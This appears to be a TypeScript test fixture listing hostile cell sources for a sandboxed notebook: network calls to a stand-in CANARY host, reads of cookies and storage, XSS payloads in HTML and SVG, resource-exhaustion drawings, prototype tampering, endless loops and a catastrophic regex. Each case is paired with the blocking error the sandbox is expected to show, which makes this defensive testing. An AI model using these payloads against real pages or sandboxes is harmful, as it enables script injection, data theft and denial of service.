// Cells that are malicious, or harmful by accident. `CANARY` is replaced by an address that
// notices any connection.
import { HOLD, SLEEP } from "./held-worker.ts";

export interface Hostile {
  readonly source: string;
  /** A text that its results must contain; without one, its results don't matter. */
  readonly shows?: RegExp;
  /** It never finishes: Stop must end it. */
  readonly isEndless?: true;
  /** It blocks its worker for so long that the page would end it to run another cell. */
  readonly isLong?: true;
}

const NO_NETWORK = /cells have no network/;
const NO_PAGE = /is not defined: cells run apart from the page/;
const NO_STORAGE = /cells cannot store anything/;
const HTML = `<img src=x onerror="window.done=1"><script>window.done=1</script>`;
const html = JSON.stringify(HTML);
/** What HTML looks like when it is shown as text. */
const AS_TEXT = /<img src=x onerror=/;

/** Passes an object that looks like a drawing of Plot or d3. */
const drawn = (markup: string, before = "") =>
  `${before}\n({ [Symbol.for("every-cube drawing")]: () => ({ markup: \`${markup}\`, label: "x" }) })`;

/** A dozen elements; each uses the next one ten times. */
const nested = (name: string, use: string, attribute: string) =>
  drawn(
    `<svg width="300" height="300"><defs>\${defs}</defs><rect width="300" height="300" ${attribute}="url(#p0)"/></svg>`,
    `let defs = ""; for (let i = 0; i < 12; i++) defs += \`<${name} id="p\${i}" width="9" height="9" ${name === "pattern" ? 'patternUnits="userSpaceOnUse"' : ""}>\` + \`<rect width="50" height="50" ${use}="url(#p\${i + 1})"/>\`.repeat(10) + "</${name}>";`,
  );

export const REACHING: Record<string, Hostile> = {
  fetch: { source: `await fetch("http://CANARY/")`, shows: NO_NETWORK },
  "fetch of this site": { source: `await fetch("/")`, shows: NO_NETWORK },
  "fetch by way of the prototypes": {
    source: `let at: any = globalThis; while (at && !Object.hasOwn(at, "fetch")) at = Object.getPrototypeOf(at); await at.fetch.call(globalThis, "http://CANARY/")`,
    shows: NO_NETWORK,
  },
  XMLHttpRequest: {
    source: `const x = new XMLHttpRequest(); x.open("GET", "http://CANARY/", false); x.send()`,
    shows: NO_NETWORK,
  },
  WebSocket: { source: `new WebSocket("ws://CANARY/")`, shows: NO_NETWORK },
  WebSocketStream: {
    source: `new (globalThis as any).WebSocketStream("ws://CANARY/")`,
    shows: NO_NETWORK,
  },
  EventSource: { source: `new EventSource("http://CANARY/")`, shows: NO_NETWORK },
  WebTransport: {
    source: `new (globalThis as any).WebTransport("https://CANARY/")`,
    shows: /Error/,
  },
  sendBeacon: {
    source: `(navigator as any).sendBeacon("http://CANARY/", "x")`,
    shows: /TypeError/,
  },
  importScripts: {
    source: `(globalThis as any).importScripts("http://CANARY/x.js")`,
    shows: NO_NETWORK,
  },
  "import of an address": {
    source: `await import("http://CANARY/x.js")`,
    shows: /no module “http/,
  },
  "import of data": {
    source: `await import("data:text/javascript,export default 1")`,
    shows: /no module “data:/,
  },
  "import of a blob": {
    source: `await import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))`,
    shows: /no module “blob:/,
  },
  "import of a relative address": {
    source: `await import("./x.js")`,
    shows: /no module “.\/x.js”/,
  },
  "import hidden in text": {
    source: `await new Function("return import('http://CANARY/x.js')")()`,
    shows: /Error/,
  },
  "import hidden in eval": {
    source: `await (0, eval)("import('data:text/javascript,export default 1')")`,
    shows: /Error/,
  },
  "static import of an address": {
    source: `import x from "http://CANARY/x.js";\nx`,
    shows: /no module “http/,
  },
  "import of what all objects have": {
    source: `import { constructor as C } from "every-cube";\nC("return 1")()`,
    shows: /no export|Error|1/,
  },
  "a worker": {
    source: `new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/')"])))`,
    shows: /a cell cannot start workers/,
  },
  "a shared worker": {
    source: `new SharedWorker("data:text/javascript,1")`,
    shows: /a cell cannot start workers/,
  },
  BroadcastChannel: {
    source: `new BroadcastChannel("x").postMessage("x")`,
    shows: /cells talk to the page/,
  },
  "messages to any listener": {
    source: `(self as any).postMessage({ kind: "pong" })`,
    shows: /cells talk to the page/,
  },
  indexedDB: { source: `indexedDB.open("secret")`, shows: NO_STORAGE },
  caches: { source: `await caches.match("/secret")`, shows: NO_STORAGE },
  localStorage: { source: `localStorage.getItem("secret")`, shows: NO_STORAGE },
  sessionStorage: { source: `sessionStorage.getItem("secret")`, shows: NO_STORAGE },
  cookies: { source: `document.cookie`, shows: NO_PAGE },
  cookieStore: {
    source: `await (globalThis as any).cookieStore.getAll()`,
    shows: /Error/,
  },
  "files of the origin": {
    source: `await (navigator as any).storage.getDirectory()`,
    shows: /Error/,
  },
  locks: {
    source: `await (navigator as any).locks.request("x", () => 1)`,
    shows: /Error/,
  },
  "a service worker": {
    source: `await (navigator as any).serviceWorker.register("/x.js")`,
    shows: /Error/,
  },
  "a font": {
    source: `await new FontFace("x", "url(http://CANARY/x.woff2)").load()`,
    shows: /cells run apart/,
  },
  "a picture": { source: `new Image().src = "http://CANARY/x.png"`, shows: NO_PAGE },
  "a canvas": { source: `new OffscreenCanvas(9, 9)`, shows: /cells run apart/ },
  document: { source: `document.body.innerHTML = "x"`, shows: NO_PAGE },
  window: { source: `window.secret`, shows: NO_PAGE },
  parent: { source: `parent.document.title = "x"`, shows: NO_PAGE },
  top: { source: `top!.location.href = "http://CANARY/"`, shows: NO_PAGE },
  opener: { source: `opener.location = "http://CANARY/"`, shows: NO_PAGE },
  "a window": { source: `open("http://CANARY/")`, shows: NO_PAGE },
  "a dialog": { source: `alert(1)`, shows: NO_PAGE },
  location: {
    source: `try { (location as any).href = "http://CANARY/"; } catch {}\nlocation.href`,
    shows: /blob:null|Error/,
  },
  "the secret by all names": {
    source: `[...Object.getOwnPropertyNames(globalThis)].map((name) => { try { return String((globalThis as any)[name]); } catch { return ""; } }).filter((text) => text.includes("planted")).length`,
    shows: /^1\n0$/,
  },
  "a chain of constructors": {
    source: `const F = (0, (() => {}).constructor.constructor) as any;\nF("return typeof document + typeof parent + typeof localStorage")()`,
    shows: /"undefinedundefinedundefined"/,
  },
  eval: {
    source: `(0, eval)("fetch('http://CANARY/')")`,
    shows: NO_NETWORK,
  },
  "code that closes what is around it": {
    source: `}); alert(1); (async () => {`,
    shows: /SyntaxError/,
  },
  "code that ends the function": {
    source: `1;\n}\nfetch("http://CANARY/");\n{`,
    shows: /SyntaxError/,
  },
  "a comment that hides the end": { source: `1; /*`, shows: /SyntaxError/ },
  "d3 that loads": {
    source: `import * as d3 from "d3";\nawait d3.json("http://CANARY/x.json")`,
    shows: NO_NETWORK,
  },
};

export const SHOWING: Record<string, Hostile> = {
  "HTML as a value": { source: html, shows: AS_TEXT },
  "HTML printed": { source: `console.log(${html})`, shows: AS_TEXT },
  "HTML in an error": { source: `throw new Error(${html})`, shows: AS_TEXT },
  "HTML thrown": { source: `throw ${html}`, shows: AS_TEXT },
  "HTML in a table": {
    source: `import { tableView } from "every-cube/notebook";\ntableView([{ [${html}]: ${html} }, { [${html}]: 2 }])`,
    shows: AS_TEXT,
  },
  "HTML in a tree": {
    source: `({ a: { [${html}]: [${html}, ${html}, ${html}] } })`,
    shows: AS_TEXT,
  },
  "HTML in controls": {
    source: `import { view, Inputs } from "every-cube/notebook";\nconst a = view(Inputs.select([${html}, "b"], { label: ${html} }));\nconst b = view(Inputs.radio([${html}, "b"], { label: "b" }));\nconst c = view(Inputs.text({ label: "c", value: ${html}, placeholder: ${html} }));\nconst d = view(Inputs.table([{ [${html}]: ${html} }], { label: ${html} }));\nconst e = view(Inputs.file({ label: ${html}, accept: ${html} }));`,
  },
  "HTML in the label of a drawing": {
    source: `({ [Symbol.for("every-cube drawing")]: () => ({ markup: "<svg/>", label: ${html} }) })`,
  },
  "a vnode": {
    source: `({ type: "img", props: { src: "x", onerror: "window.done=1", dangerouslySetInnerHTML: { __html: ${html} } }, constructor: undefined, __v: 1 })`,
    shows: /type: "img"/,
  },
  "SVG with a script": { source: drawn("<svg><script>window.done=1</script></svg>") },
  "SVG that acts when loaded": {
    source: drawn(
      '<svg onload="window.done=1"><image href="x" onerror="window.done=1"/></svg>',
    ),
  },
  "SVG with HTML in it": {
    source: drawn(
      '<svg><foreignObject><iframe srcdoc="<script>parent.done=1</script>"></iframe></foreignObject></svg>',
    ),
  },
  "SVG that loads": {
    source: drawn(
      '<svg><image href="http://CANARY/a.png"/><use href="http://CANARY/b.svg#a"/><style>@import "http://CANARY/c.css";</style><rect fill="url(http://CANARY/d.svg#a)" style="background:url(http://CANARY/e.png)"/></svg>',
    ),
  },
  "SVG that links and moves": {
    source: drawn(
      '<svg><a href="javascript:window.done=1"><text>x</text></a><animate onbegin="window.done=1" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:window.done=1"/></svg>',
    ),
  },
  "SVG that means the page": {
    source: drawn(
      '<svg><style>body { display: none }</style><rect style="position:fixed;inset:0" class="cell-run"/></svg>',
    ),
  },
  "a form in a drawing": {
    source: drawn(
      '<form action="http://CANARY/"><button>x</button></form><meta http-equiv="refresh" content="0;http://CANARY/"><base href="http://CANARY/">',
    ),
  },
  "a drawing of d3 that acts": {
    source: `import * as d3 from "d3";\nconst svg = d3.create("svg").attr("onload", "window.done=1");\nsvg.append("script").text("window.done=1");\nsvg.append("image").attr("href", "http://CANARY/x.png");\nsvg.append("a").attr("href", "javascript:window.done=1").append("text").text("x");\nsvg.node()`,
  },
  "a drawing of Plot that loads": {
    source: `import * as Plot from "@observablehq/plot";\nPlot.plot({ marks: [Plot.image([1], { x: 1, y: 1, src: () => "http://CANARY/x.png" }), Plot.text([1], { x: 1, y: 1, text: () => ${html}, href: () => "javascript:window.done=1" })] })`,
  },
  "patterns of patterns": { source: nested("pattern", "fill", "fill") },
  "masks of masks": { source: nested("mask", "mask", "mask") },
  "clips of clips": { source: nested("clipPath", "clip-path", "clip-path") },
  "a drawing of too much": {
    source: drawn("${'<g>'.repeat(200000)}"),
    shows: /a drawing of 200,000 elements/,
  },
  "a drawing deeper than any parser goes": {
    source: drawn("<svg>${'<g>'.repeat(2000)}"),
  },
  "a drawing outside of its place": {
    source: drawn(
      '<svg width="99999" height="99999" style="overflow:visible;margin-left:-9999px"><text x="-999" y="-999" font-size="999">X</text></svg>',
    ),
  },
  "many large drawings": {
    source: `const draw = { [Symbol.for("every-cube drawing")]: () => ({ markup: "<svg>" + "<g/>".repeat(19000), label: "x" }) };\nimport { display } from "every-cube/notebook";\nfor (let i = 0; i < 9; i++) display(draw);`,
    shows: /outputs are left out here/,
  },
  "letters that change the order of others": {
    source: `console.log("\\u202Eabc\\u0000\\uD800\\u2066\\u200F");\n({ "\\u202E": "\\u0000" })`,
    shows: /abc/,
  },
  "a line without end": {
    source: `console.log("x".repeat(5e6)); "y".repeat(5e6)`,
    shows: /more characters/,
  },
  "names of what all objects have": {
    source: `const hasOwnProperty = { ["__proto__"]: 1, constructor: { name: 5 }, toString: 1, hasOwnProperty: 2 }; hasOwnProperty;\nconst constructor = 7; constructor;`,
    shows: /7/,
  },
  "__proto__ as a name": {
    source: `const __proto__ = { polluted: 1 }; __proto__; ({} as any).polluted`,
  },
  "a value with a hundred thousand parts": {
    source: `Array.from({ length: 1e5 }, (_, i) => ({ i, deep: [[i]] }))`,
    shows: /more/,
    isLong: true,
  },
  "a value that is its own part": {
    source: `const a: any = { b: [] }; a.b.push(a, a.b); a`,
    shows: /circular/,
  },
  "a value as deep as can be": {
    source: `let a: any = {}; for (let i = 0; i < 1e5; i++) a = { a, b: a }; a`,
    shows: /…/,
  },
  "a value that refuses": {
    source: `new Proxy({}, { get() { throw 1; }, ownKeys() { throw 2; }, getPrototypeOf() { throw 3; }, has() { throw 4; } })`,
    shows: /refuses to be read/,
  },
  "a value that answers for ever": {
    source: `let n = 0; new Proxy([], { get: (_, key) => key === "length" ? 1e9 : "x", getOwnPropertyDescriptor: () => ({ value: n++, configurable: true }) })`,
  },
  "getters that act": {
    source: `({ get a() { throw new Error("read"); }, get b() { for (;;); } })`,
    shows: /getter/,
  },
  "an error that lies": {
    source: `const e: any = new Error("x"); Object.defineProperty(e, "stack", { get() { throw 1; } }); Object.defineProperty(e, "message", { get: () => ({ toString() { return ${html}; } }) }); e.toString = () => { throw 2; }; throw e;`,
  },
  "an error that is none": {
    source: `throw Object.create(Error.prototype, { name: { value: ${html} }, stack: { value: { length: 1e9 } } })`,
    shows: AS_TEXT,
  },
  "promises and timers that fail later": {
    source: `void Promise.reject(new Error("late")); setTimeout(() => { throw new Error("later"); }); await new Promise((r) => setTimeout(r, 20));`,
    shows: /Uncaught: Error: later?\n[^]*Uncaught: Error: later?$/,
  },
};

/** Throws where nothing can catch it. */
const late = (how: string, thrown = 'new Error("late")') => ({
  source: `const fail = () => { throw ${thrown}; };\n${how}; await new Promise((r) => setTimeout(r, 50)); "goes on"`,
  shows: /Uncaught: [^]*"goes on"/,
});

/** What its worker survives, with all values, and shows in the cell. */
export const THROWN: Record<string, Hostile> = {
  "a microtask that throws": late("queueMicrotask(fail)"),
  "a thousand microtasks that throw": {
    source: `for (let i = 0; i < 1000; i++) queueMicrotask(() => { throw 1; })`,
    shows: /Uncaught: thrown: 1[^]*outputs are left out here/,
  },
  "a timer that throws, not of the cell": late(
    "new Function('f', 'setTimeout(f)')(fail)",
  ),
  "a listener that throws": late(
    'const t: any = new EventTarget(); t.addEventListener("x", fail); t.dispatchEvent(new Event("x"))',
  ),
  "a port whose listener throws": late(
    "const { port1, port2 } = new MessageChannel(); port1.onmessage = fail; port2.postMessage(1)",
  ),
  "a microtask that throws no error": late("queueMicrotask(fail)", "null"),
  "a microtask that throws what refuses": late(
    "queueMicrotask(fail)",
    "new Proxy({}, { get() { throw 1; } })",
  ),
  "an error of ten million letters": late('reportError(new Error("x".repeat(1e7)))'),
  "a promise that fails with ten million letters": late(
    'void Promise.reject(new Error("x".repeat(1e7)))',
  ),
  "a thrown text of ten million letters": late(
    "queueMicrotask(fail)",
    '"x".repeat(1e7)',
  ),
  "a listener for errors that throws": {
    source: `addEventListener("error", () => { throw new Error("again"); });\nqueueMicrotask(() => { throw new Error("late"); });\nawait new Promise((r) => setTimeout(r, 50)); "goes on"`,
    shows: /Uncaught: Error: late[^]*"goes on"/,
  },
  "an end that is asked for": {
    source: `(globalThis as any).onerror = () => false; try { (self as any).close(); } catch (error) { console.log(error.message); } "goes on"`,
    shows: /cells talk to the page[^]*"goes on"/,
  },
};

/** What is spoilt for all later cells, until the next run begins with a new worker. */
export const SPOILING: Record<string, string> = {
  "a pattern's search": "RegExp.prototype.exec = () => null;",
  "the test of patterns": "RegExp.prototype.test = () => false;",
  lists: "Array.prototype.map = Array.prototype.push = null as any;",
  "the next of lists": "Object.getPrototypeOf([][Symbol.iterator]()).next = null;",
  "how lists are read": "Array.prototype[Symbol.iterator] = null as any;",
  texts: "String.prototype.slice = String.prototype.split = null as any;",
  calls:
    "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = null as any;",
  "what JSON writes": "JSON.stringify = () => '{}';",
  "what JSON reads": "JSON.parse = () => null;",
  "what all objects have": "(Object.prototype as any).kind = 'x';",
  "what objects are written as": "(Object.prototype as any).toJSON = () => 7;",
  "the keys of objects": "Object.keys = Object.entries = () => [];",
  maps: "Map.prototype.get = () => undefined; Map.prototype.set = null as any;",
  "what a promise comes to": "Promise.prototype.then = () => { throw 1; };",
  "all promises": "Promise.all = Promise.race = Promise.resolve = null as any;",
  "the maker of promises": "(globalThis as any).Promise = class {};",
  "the maker of errors": "(globalThis as any).Error = class {};",
  timers: "(globalThis as any).setTimeout = () => { throw 1; };",
  "a loop of promises": `const again = (): any => Promise.resolve().then(() => { ${SLEEP} again(); }); again();`,
  "a loop of microtasks": `const turn = () => { ${SLEEP} queueMicrotask(turn); }; turn();`,
  "a loop of an async function": `(async () => { for (;;) { ${SLEEP} await 0; } })();`,
  "messages to itself":
    "const { port1, port2 } = new MessageChannel(); port1.onmessage = () => port2.postMessage(1); port2.postMessage(1);",
  "a timer that never pauses":
    "setInterval(() => { for (let i = 0; i < 1e6; i++); }, 0);",
};

export const WASTEFUL: Record<string, Hostile> = {
  "promises for ever": {
    source: `const again = (): any => Promise.resolve().then(() => { ${SLEEP} return again(); }); await again()`,
    isEndless: true,
  },
  "a generator for ever": {
    source: `function* f() { for (;;) yield 1; }\nfor (const x of f()) { ${SLEEP} }`,
    isEndless: true,
  },
  "a promise that never ends": {
    source: `await new Promise(() => {})`,
    isEndless: true,
  },
  "waiting forever": {
    source: HOLD,
    isEndless: true,
  },
  "a getter of an awaited value": {
    source: `await { get then() { for (;;) { ${SLEEP} } } }`,
    isEndless: true,
  },
  recursion: {
    source: `const f = (n: number): number => f(n + 1) + 1; f(0)`,
    shows: /RangeError: Maximum call stack/,
  },
  "a million lines": {
    source: `for (let i = 0; i < 1e6; i++) console.log(i)`,
    shows: /999,700 outputs are left out here[^]*\b999999\b/,
    isLong: true,
  },
  "a thousand values": {
    source: `import { display } from "every-cube/notebook";\nconst a = { b: Array.from({ length: 9 }, (_, i) => ({ i, c: [i, i, i] })) };\nfor (let i = 0; i < 1000; i++) display(a)`,
    shows: /outputs are left out here/,
    isLong: true,
  },
  "timers without number": {
    source: `for (let i = 0; i < 300; i++) setInterval(() => console.log(i), 0); 1`,
  },
  "a text without end": {
    source: `let a = "x"; for (;;) a += a`,
    shows: /RangeError: Invalid string length/,
  },
  "an array too long": {
    source: `new Array(2 ** 32)`,
    shows: /RangeError: Invalid array length/,
  },
  "a typed array too long": {
    source: `new Float64Array(2 ** 40)`,
    shows: /RangeError/,
  },
  "a list with holes": { source: `const a = []; a[4e9] = 1; a`, shows: /empty/ },
  "the reader's cube, again and again": {
    source: `import { setReaderCube } from "every-cube/page";\nimport { unrankState } from "every-cube";\nfor (let i = 0; i < 1e5; i++) setReaderCube(unrankState(1234567))`,
    isLong: true,
  },
  // Last: until the page is closed, they go on, see held-worker.ts.
  "a loop": { source: `while (true) {}`, isEndless: true },
  "a pattern that takes years": {
    source: `/^(a+)+$/.test("a".repeat(50) + "b")`,
    isEndless: true,
  },
  "a number that grows": { source: `let a = 3n; for (;;) a = a * a;`, isEndless: true },
};
